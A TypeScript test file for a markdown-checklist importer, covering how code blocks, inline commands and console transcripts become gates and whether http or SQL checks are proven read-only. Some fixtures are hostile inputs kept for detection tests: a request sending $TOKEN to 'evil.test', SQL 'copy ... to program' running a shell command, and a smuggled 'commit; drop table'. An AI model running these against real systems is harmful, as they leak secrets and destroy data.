// Which code belongs to which gate, and what a gate with that code checks.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { utf8Bytes } from '../kernel/index.ts'
import { nodeDigest } from '../../test/crypto.ts'
import { importChecklist } from './import.ts'
import type { ImportedChecklist } from './imported.ts'

function importText(...lines: string[]): ImportedChecklist {
  return importChecklist(utf8Bytes(lines.join('\n')), 'list.md', nodeDigest)
}

function rulesOf(imported: ImportedChecklist): string[] {
  // What a checklist is told that names no version and nobody who signs has nothing to do with its code.
  const rules = new Set(imported.findings.map((finding) => finding.rule))
  return [...rules]
    .filter((rule) => rule !== 'no-sign-offs' && rule !== 'version-unnamed')
    .toSorted()
}

test('code behind a list serves its gates without code, is reported once, and never crosses a heading', () => {
  const imported = importText(
    '- [ ] a',
    '- [ ] too',
    '- [ ] b',
    '',
    '  ```bash',
    '  echo own',
    '  ```',
    '',
    '```bash',
    'curl http://x.test',
    '```',
    '',
    '# Next',
    '',
    '- [ ] c',
    '',
    '# Last',
    '',
    '```bash',
    'echo lost',
    '```',
  )
  assert.deepEqual(
    imported.gates.map((gate) => gate.blocks.map((block) => block.source)),
    [['curl http://x.test'], ['curl http://x.test'], ['echo own'], []],
  )
  assert.equal(imported.findings.filter((finding) => finding.rule === 'no-fail-curl').length, 1)
  assert.deepEqual(
    rulesOf(imported).filter((rule) => rule.startsWith('block-')),
    ['block-shared', 'block-unbound'],
  )
})

test('inline code is a command only when the item is it or tells to run it', () => {
  const imported = importText(
    '- [ ] `npm test -- --ci`',
    '- [ ] Run `make release` twice',
    '- [ ] Update `CHANGELOG.md`',
    '- [ ] `README.md`',
    '- [ ] Bump version in `package.json` and run `npm i`',
    '- [ ] Execute `./deploy.sh`',
    '- [ ] `Promise<void>` documented',
  )
  assert.deepEqual(
    imported.gates.map((gate) => gate.blocks[0]?.source),
    ['npm test -- --ci', 'make release', undefined, undefined, undefined, './deploy.sh', undefined],
  )
  assert.deepEqual(
    imported.gates.map((gate) => gate.check),
    ['command', 'command', 'manual', 'manual', 'manual', 'command', 'manual'],
  )
  assert.deepEqual(imported.gates[0]?.blocks[0]?.lines, [{ line: 1, column: 8 }])
})

test('several shell blocks of one item are one script, other languages are left out aloud', () => {
  const imported = importText(
    '- [ ] g',
    '',
    '  ```yaml',
    '  a: 1',
    '  ```',
    '  ```bash',
    '  one',
    '  ```',
    '',
    '  ```sql',
    '  select 1',
    '  ```',
    '',
    '  ```sh',
    '  two',
    '  ```',
  )
  const [gate] = imported.gates
  assert.equal(gate?.check, 'command')
  assert.deepEqual(
    gate?.blocks.map((block) => [block.language, block.kind]),
    [
      ['yaml', 'sample'],
      ['bash', 'runnable'],
      ['sql', 'runnable'],
      ['sh', 'runnable'],
    ],
  )
  const leftOut = imported.findings.find((finding) => finding.rule === 'block-left-out')
  assert.equal(leftOut?.line, 11)
})

test('http, sql and languages that are not run here are recognised', () => {
  const imported = importText(
    '- [ ] h',
    '',
    '  ```http',
    '  # comment',
    '  GET $BASE_URL/health HTTP/1.1',
    '  Accept: application/json',
    '  ```',
    '',
    '- [ ] q',
    '',
    '  ```sql connection=LEDGER_URL',
    "  select count(*) from t where name = '$TENANT'",
    '  ```',
    '',
    '- [ ] p',
    '',
    '  ```promql',
    '  up == 0',
    '  ```',
    '',
    '- [ ] b',
    '',
    '  ```http',
    '  nonsense',
    '  ```',
  )
  assert.deepEqual(
    imported.gates.map((gate) => gate.check),
    ['http', 'sql', 'promql', 'unsupported'],
  )
  assert.deepEqual(
    imported.gates.map((gate) => gate.parameters),
    [['BASE_URL'], ['LEDGER_URL'], ['PROMETHEUS_URL'], []],
  )
  assert.deepEqual(
    imported.gates.map((gate) => gate.provenRead),
    [true, false, true, false],
  )
  assert.deepEqual(imported.gates[1]?.holes, ['$TENANT'])
  assert.ok(rulesOf(imported).includes('check-unsupported'))
})

test('a request that could carry a parameter to a host of the author is not proven harmless', () => {
  const proofOf = (...request: string[]): boolean | undefined =>
    importText('- [ ] h', '', '  ```http', ...request.map((line) => `  ${line}`), '  ```').gates[0]
      ?.provenRead
  assert.equal(proofOf('GET https://x.test/health'), true)
  assert.equal(proofOf('GET https://evil.test/?t=$TOKEN'), false)
  assert.equal(proofOf('GET $BASE/x', 'Authorization: Bearer $TOKEN'), false)
  assert.equal(proofOf('POST $BASE/x'), false)
  assert.equal(proofOf('GET $BASE$TOKEN'), false)
})

test('SQL that reaches beyond its transaction is not proven to only read', () => {
  const proofOf = (text: string): boolean | undefined =>
    importText('- [ ] q', '', '  ```sql', `  ${text}`, '  ```').gates[0]?.provenRead
  assert.equal(proofOf('select count(*) from t'), true)
  assert.equal(proofOf("copy (select 1) to program 'id'"), false)
  assert.equal(proofOf('select pg_terminate_backend(1)'), false)
  assert.equal(proofOf('select 1; commit; drop table t'), false)
})

test('in a transcript only what stands behind a prompt runs', () => {
  const imported = importText(
    '- [ ] g',
    '',
    '  ```console',
    '  $ git rev-parse HEAD',
    '  abc123',
    '  $ test -f x && \\',
    '      true',
    '  output',
    '  ```',
  )
  assert.equal(
    imported.gates[0]?.blocks[0]?.source,
    'git rev-parse HEAD\ntest -f x && \\\n    true',
  )
  assert.deepEqual(
    imported.gates[0]?.blocks[0]?.lines.map((place) => place.line),
    [4, 6, 7],
  )
})

test('a transcript says how many of its lines are not run', () => {
  const imported = importText(
    '- [ ] g',
    '',
    '  ```shell',
    '  $ tag=v1',
    '  git push origin $tag',
    '  ```',
  )
  const finding = imported.findings.find((candidate) => candidate.rule === 'transcript-output')
  assert.match(finding?.message ?? '', /^1 line /)
})

test('plain items that consist of a command are the check of the gate around them', () => {
  const imported = importText(
    '- [ ] Build is reproducible',
    '  - `make srtool-build`',
    '  - `CHANGELOG.md`',
    '  - see `make help` first',
    '  - `./verify.sh`',
  )
  assert.deepEqual(
    imported.gates[0]?.blocks.map((block) => block.source),
    ['make srtool-build', './verify.sh'],
  )
})

test('a box alone on its line counts when the item goes on, named by its own code', () => {
  const imported = importText('- [ ]', '  ```bash', '  docker run x', '  ```', '- [ ]', '- [ ] b')
  assert.deepEqual(
    imported.gates.map((gate) => gate.id),
    ['docker-run-x', 'b'],
  )
})
